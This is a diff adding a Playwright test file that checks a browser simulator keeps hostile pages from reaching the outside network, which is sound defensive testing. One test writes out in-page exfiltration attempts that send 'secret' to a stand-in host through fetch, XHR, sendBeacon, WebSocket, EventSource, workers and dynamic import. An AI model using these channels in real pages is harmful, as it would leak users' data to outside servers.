@@ -1,0 +1,220 @@
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { chromium, type Page } from '@playwright/test'
+import type { FixedAnswer } from '../src/protocol/scenario.ts'
+import { EVIL, FAR, hostilePage, LOADS, LOOKED_UP, WAYS_OUT } from './hostile/pages.ts'
+import { test as base, expect } from './test.ts'
+import type { Workbench } from './workbench.ts'
+
+/** Where the one name leads that pages only look up; nobody listens there. */
+const LOOK_UP_ADDRESS = '127.77.77.77'
+
+/**
+ * An ordinary profile, not a private one: only there does Chromium look names up and connect ahead of time, as it does for readers. Its
+ * own log tells which names it looked up.
+ */
+const test = base.extend<{ lookUps: { expected: boolean } }>({
+  lookUps: [{ expected: false }, { option: true }],
+  context: async ({ launchOptions, contextOptions, baseURL, viewport, lookUps }, use) => {
+    const directory = mkdtempSync(join(tmpdir(), 'authscope-profile-'))
+    const log = join(directory, 'network.json')
+    const args = (launchOptions.args ?? []).map((arg) =>
+      arg.replace('--host-resolver-rules=', `--host-resolver-rules=MAP ${LOOKED_UP} ${LOOK_UP_ADDRESS},`),
+    )
+    const context = await chromium.launchPersistentContext(directory, {
+      ...launchOptions,
+      ...contextOptions,
+      args: [...args.filter((arg) => arg !== '--disable-background-networking'), `--log-net-log=${log}`],
+      ignoreDefaultArgs: ['--disable-background-networking'],
+      viewport,
+      ...(baseURL === undefined ? {} : { baseURL }),
+    })
+    const [blank] = context.pages()
+    await use(context)
+    await blank?.close()
+    await context.close()
+    // What stands before the events is the browser's own command line.
+    const [, events = ''] = readFileSync(log, 'utf8').split('"events":', 2)
+    rmSync(directory, { recursive: true, force: true })
+    expect.soft(events.includes(LOOK_UP_ADDRESS), `whether ${LOOKED_UP} was looked up`).toBe(lookUps.expected)
+  },
+})
+
+// What the policy of simulated pages refuses, and what nobody answers, is written to the console.
+test.use({
+  expectedComplaints:
+    /Content Security Policy|Content-Security-Policy|Permissions Policy|status of|ERR_|sandboxed|Unsafe attempt|Speculation|Manifest/i,
+})
+
+/** A world with one hostile page for each of these, at `https://evil.example/0`, `/1`… */
+async function openWorld(workbench: Workbench, pages: readonly string[]): Promise<void> {
+  const answers: Record<string, FixedAnswer> = {
+    [`${FAR}/`]: hostilePage('<h1>Far</h1>'),
+    [`${EVIL}/beyond`]: hostilePage('<h1>Beyond</h1>'),
+  }
+  for (const [index, content] of pages.entries())
+    answers[`${EVIL}/${index}`] = hostilePage(`<h1>Evil</h1>${content}`)
+  await workbench.open()
+  await workbench.reset({ answers })
+}
+
+/** Everything that the page loads by itself has been loaded, or has failed. Frames may come and go meanwhile. */
+async function waitForLoads(page: Page): Promise<void> {
+  await Promise.all(page.frames().map((frame) => frame.waitForLoadState('load').catch(() => undefined)))
+}
+
+test.describe('a page without the simulator', () => {
+  test.use({ lookUps: { expected: true } })
+
+  test('is heard when it reaches out', async ({ page, canary, startSite }) => {
+    const directory = mkdtempSync(join(tmpdir(), 'authscope-plain-'))
+    writeFileSync(
+      join(directory, 'index.html'),
+      `<link rel="preconnect" href="${FAR}"><link rel="dns-prefetch" href="//${LOOKED_UP}"><img src="https://near.example/x">`,
+    )
+    const site = await startSite({ directory })
+    await page.goto(site.url)
+    const heard = new Set<string>()
+    await expect
+      .poll(() => {
+        for (const call of canary.takeCalls()) heard.add(call)
+        return [...heard].sort()
+      })
+      .toEqual(['TLS for far.example', 'TLS for near.example'])
+    rmSync(directory, { recursive: true })
+  })
+})
+
+test('nothing that a page loads by itself leaves the origin', async ({ workbench, page, canary }) => {
+  test.setTimeout(120_000)
+  const titles = Object.keys(LOADS)
+  await openWorld(workbench, Object.values(LOADS))
+  for (const [index, title] of titles.entries()) {
+    await test.step(title, async () => {
+      await workbench.go(`${EVIL}/${index}`)
+      await waitForLoads(page)
+      expect.soft(canary.takeCalls(), title).toEqual([])
+    })
+  }
+  const asked = (await workbench.recordedOf('request.sent')).map(({ data }) => data.request.url)
+  // The simulated internet got what a browser would have sent.
+  for (const path of ['image.png', 'style.css', 'background.png', 'font.woff2', 'poster.png', 'frame'])
+    expect.soft(asked, path).toContain(`${FAR}/${path}`)
+  for (const path of ['script.js', 'inline.png', 'handler.png', 'base/relative.png'])
+    expect.soft(asked, path).not.toContain(`${FAR}/${path}`)
+})
+
+test('no link and no form leaves the window', async ({ workbench, page, context, canary }) => {
+  test.setTimeout(120_000)
+  await openWorld(workbench, Object.values(WAYS_OUT))
+  const home = page.url()
+  const windows = context.pages()
+  for (const [index, name] of Object.keys(WAYS_OUT).entries()) {
+    await test.step(name, async () => {
+      await workbench.go(`${EVIL}/${index}`)
+      const frame = workbench.frame()
+      const target =
+        name === 'area of a map' ? frame.getByAltText('picture') : frame.getByText(name, { exact: true })
+      const before = (await workbench.recorded()).length
+      await target.click()
+      // One command after the click: the worker has seen whatever the click led to.
+      await workbench.recorded()
+      await waitForLoads(page)
+      expect.soft(page.url(), name).toBe(home)
+      expect.soft(context.pages(), name).toEqual(windows)
+      expect.soft(canary.takeCalls(), name).toEqual([])
+      expect.soft((await workbench.recorded()).length, name).toBeGreaterThanOrEqual(before)
+    })
+  }
+  const visited = new Set(
+    (await workbench.recordedOf('request.sent')).map(
+      ({ data }) => `${data.request.method} ${data.request.url}`,
+    ),
+  )
+  expect(visited).toContain(`GET ${FAR}/`)
+  expect(visited).toContain(`POST ${FAR}/`)
+  expect(visited).toContain(`GET ${EVIL}/beyond`)
+})
+
+test('a link to a new window opens a simulated tab', async ({ workbench, page }) => {
+  await openWorld(workbench, [WAYS_OUT['link to a new window'] ?? ''])
+  await workbench.go(`${EVIL}/0`)
+  await workbench.frame().getByRole('link').click()
+  await expect(workbench.address).toHaveValue(`${FAR}/`)
+  await expect(page.getByRole('list', { name: 'Tabs of laptop' }).getByRole('listitem')).toHaveCount(3)
+})
+
+test('scripts find every way out closed', async ({ workbench, page, context, canary }) => {
+  await openWorld(workbench, [''])
+  await workbench.go(`${EVIL}/0`)
+  const windows = context.pages()
+  const frame = page.frames().find((each) => each.url().includes('evil.example'))
+  const outcomes = await frame?.evaluate(async (far) => {
+    const quiet = async (work: () => unknown): Promise<string> => {
+      try {
+        const value = await work()
+        return value instanceof Response ? `${value.type} ${value.status}` : String(value)
+      } catch (error) {
+        return error instanceof Error ? error.name : 'thrown'
+      }
+    }
+    const told = (target: EventTarget) =>
+      new Promise((resolve) => {
+        for (const type of ['open', 'error', 'load']) target.addEventListener(type, () => resolve(type))
+      })
+    const request = () => {
+      const xhr = new XMLHttpRequest()
+      xhr.open('POST', `${far}/xhr`)
+      const end = told(xhr)
+      xhr.send('secret')
+      return end
+    }
+    return {
+      fetch: await quiet(() => fetch(`${far}/fetch`)),
+      opaque: await quiet(() => fetch(`${far}/opaque`, { mode: 'no-cors', method: 'POST', body: 'secret' })),
+      keepalive: await quiet(() =>
+        fetch(`${far}/keepalive`, { keepalive: true, mode: 'no-cors', method: 'POST' }),
+      ),
+      xhr: await quiet(request),
+      beacon: await quiet(() => navigator.sendBeacon(`${far}/beacon`, 'secret')),
+      socket: await quiet(() => told(new WebSocket('wss://far.example/socket'))),
+      events: await quiet(() => told(new EventSource(`${far}/events`))),
+      window: await quiet(() => window.open(`${far}/`)),
+      worker: await quiet(() => told(new Worker(`${far}/worker.js`))),
+      peer: typeof globalThis.RTCPeerConnection,
+      transport: typeof globalThis.WebTransport,
+      container: typeof navigator.serviceWorker,
+      import: await quiet(() => import(`${far}/module.js`)),
+    }
+  }, FAR)
+  expect(outcomes).toMatchObject({
+    fetch: 'TypeError',
+    xhr: 'error',
+    beacon: 'true',
+    socket: 'error',
+    events: 'error',
+    window: 'null',
+    worker: 'error',
+    peer: 'undefined',
+    transport: 'undefined',
+    container: 'undefined',
+    import: 'TypeError',
+  })
+  expect(context.pages()).toEqual(windows)
+  await expect
+    .poll(async () => (await workbench.recordedOf('request.sent')).map(({ data }) => data.request.url))
+    .toContain(`${FAR}/beacon`)
+  expect(canary.takeCalls()).toEqual([])
+})
+
+test('the server of the site sees its own files and nothing else', async ({ workbench, page, startSite }) => {
+  const site = await startSite()
+  await workbench.open(site.url)
+  await workbench.signIn()
+  await workbench.reset({ answers: { [`${EVIL}/`]: hostilePage(Object.values(LOADS).join('')) } })
+  await workbench.go(`${EVIL}/`)
+  await waitForLoads(page)
+  const files = /^GET \/(?:|[a-z]+\.js|icon\.svg|favicon\.ico|assets\/[\w.-]+)$/
+  expect(site.log.filter((line) => !files.test(line))).toEqual([])
+})
